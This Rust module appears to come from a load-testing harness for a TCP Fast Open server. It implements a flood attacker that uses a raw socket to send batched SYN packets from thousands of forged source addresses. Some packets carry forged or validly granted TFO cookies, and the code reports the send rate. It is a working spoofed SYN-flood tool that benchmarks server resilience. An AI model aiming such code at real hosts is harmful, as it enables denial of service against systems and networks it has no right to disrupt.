//! The attacker of `load --flood`: a process of its own, which sends SYNs from addresses that nobody has.

use super::site::FILES;
use clap::{Args, ValueEnum};
use firstflight_credential::{CookieKey, Flow, KeyRing, Scheme};
use firstflight_wire::tcp::{Cookie, FastOpen, FastOpenForm, Flags, Header, OptionsBuf, fill_checksum};
use firstflight_wire::{SeqNum, ip};
use nix::errno::Errno;
use nix::sys::socket::{
    AddressFamily, MsgFlags, MultiHeaders, SockFlag, SockProtocol, SockType, SockaddrIn, sendmmsg, socket,
};
use rand_chacha::ChaCha20Rng;
use rand_chacha::rand_core::{Rng, SeedableRng};
use serde_json::{Value, json};
use std::io::{self, IoSlice};
use std::net::{IpAddr, Ipv4Addr, SocketAddrV4};
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

/// The key of all servers' cookies in `load`.
pub const KEY: [u8; 16] = *b"the load's flood";
/// Addresses that are forged, from the first one on.
const SOURCES: u32 = 4096;
/// Packets of a system call.
const BATCH: usize = 64;
/// The longest packet: an IP header, a SYN with options, and a request.
const LONGEST: usize = 160;

/// The attacker of `load --flood`, which starts it.
#[derive(Debug, Args)]
pub struct Flooding {
    #[arg(long)]
    at: SocketAddrV4,
    #[arg(long)]
    kind: Flood,
    /// The first of the forged addresses
    #[arg(long)]
    from: Ipv4Addr,
    #[arg(long)]
    ms: u64,
}

/// What honest clients have beside them.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Flood {
    /// Nothing.
    Nothing,
    /// SYNs.
    Plain,
    /// SYNs with a request and a cookie that nobody granted.
    Forged,
    /// SYNs with a request and the cookie of their address.
    Valid,
}

impl Flood {
    pub const ALL: [Self; 4] = [Self::Nothing, Self::Plain, Self::Forged, Self::Valid];

    /// The name in tables and JSON.
    pub const fn name(self) -> &'static str {
        match self {
            Self::Nothing => "nothing",
            Self::Plain => "plain",
            Self::Forged => "forged",
            Self::Valid => "valid",
        }
    }
}

/// The packets of an attacker.
struct Forger {
    kind: Flood,
    at: SocketAddrV4,
    /// Each source with its cookie, if it sends one.
    sources: Vec<(Ipv4Addr, Option<Cookie>)>,
    request: String,
    random: ChaCha20Rng,
    next: usize,
}

impl Forger {
    fn new(options: &Flooding) -> Self {
        let mut random = ChaCha20Rng::seed_from_u64(7);
        let keys = KeyRing::new(Scheme::Linux, CookieKey::from_bytes(KEY));
        let first = options.from.to_bits();
        let sources = (first..first.saturating_add(SOURCES)).map(|bits| {
            let source = Ipv4Addr::from_bits(bits);
            let flow = Flow { client: source.into(), server: (*options.at.ip()).into() };
            let cookie = match options.kind {
                Flood::Nothing | Flood::Plain => None,
                Flood::Forged => Cookie::new(&random.next_u64().to_be_bytes()),
                Flood::Valid => Some(keys.grant(&flow)),
            };
            (source, cookie)
        });
        let sources = sources.collect();
        let [_, (file, _)] = FILES;
        let request = format!("GET /{file} HTTP/1.0\r\nHost: load\r\n\r\n");
        Self { kind: options.kind, at: options.at, sources, request, random, next: 0 }
    }

    /// Writes the next packet, and returns its length. `None` if there is no room.
    fn packet(&mut self, out: &mut [u8]) -> Option<usize> {
        let (source, cookie) = *self.sources.get(self.next % self.sources.len())?;
        self.next = self.next.wrapping_add(1);
        let mut options = OptionsBuf::new();
        options.mss(1460);
        if let Some(cookie) = cookie {
            options.fast_open(&FastOpen::Cookie(FastOpenForm::Standard, cookie));
        }
        let data = if self.kind == Flood::Plain { "" } else { self.request.as_str() };
        let header = Header {
            src_port: 1024 | self.random.next_u32() as u16,
            dst_port: self.at.port(),
            seq: SeqNum::new(self.random.next_u32()),
            ack: SeqNum::new(0),
            flags: Flags::SYN,
            window: 65_535,
            urgent: 0,
        };
        let (src, dst) = (IpAddr::V4(source), IpAddr::V4(*self.at.ip()));
        let around = ip::Header {
            src,
            dst,
            protocol: ip::Protocol::Tcp,
            hop_limit: 64,
            ecn: ip::Ecn::NotEct,
            dont_fragment: true,
            identification: 0,
        };
        let segment = out.get_mut(around.len()..)?;
        let len = header.emit(options.finish(), segment).ok()?;
        segment.get_mut(len..len + data.len())?.copy_from_slice(data.as_bytes());
        let len = len + data.len();
        fill_checksum(segment.get_mut(..len)?, src, dst);
        Some(around.emit(len, out).ok()? + len)
    }
}

/// Sends as fast as the kernel takes packets, and prints how many.
pub fn run(options: &Flooding) -> io::Result<String> {
    // Packets that have their IP header.
    let raw = socket(AddressFamily::Inet, SockType::Raw, SockFlag::SOCK_CLOEXEC, SockProtocol::Raw)?;
    let to = vec![Some(SockaddrIn::from(SocketAddrV4::new(*options.at.ip(), 0))); BATCH];
    let mut headers = MultiHeaders::preallocate(BATCH, None);
    let mut forger = Forger::new(options);
    let (since, time) = (Instant::now(), Duration::from_millis(options.ms));
    let mut sent = 0_u64;
    while since.elapsed() < time {
        let mut packets = [[0; LONGEST]; BATCH];
        let lens = packets.each_mut().map(|packet| forger.packet(packet).unwrap_or_default());
        let parts = packets
            .iter()
            .zip(lens)
            .map(|(packet, len)| [IoSlice::new(packet.get(..len).unwrap_or_default())]);
        let parts: Vec<_> = parts.collect();
        match sendmmsg(raw.as_raw_fd(), &mut headers, &parts, &to, [], MsgFlags::empty()) {
            Ok(results) => sent += results.count() as u64,
            // The device is full.
            Err(Errno::ENOBUFS | Errno::EAGAIN | Errno::EINTR) => {}
            Err(error) => return Err(error.into()),
        }
    }
    let per_s = sent as f64 / since.elapsed().as_secs_f64();
    Ok(json!({ "per_s": per_s }).to_string())
}

/// Packets a second, from the attacker's output.
pub fn read(output: &[u8]) -> Option<f64> {
    serde_json::from_slice::<Value>(output).ok()?.get("per_s")?.as_f64()
}

#[cfg(test)]
mod tests;
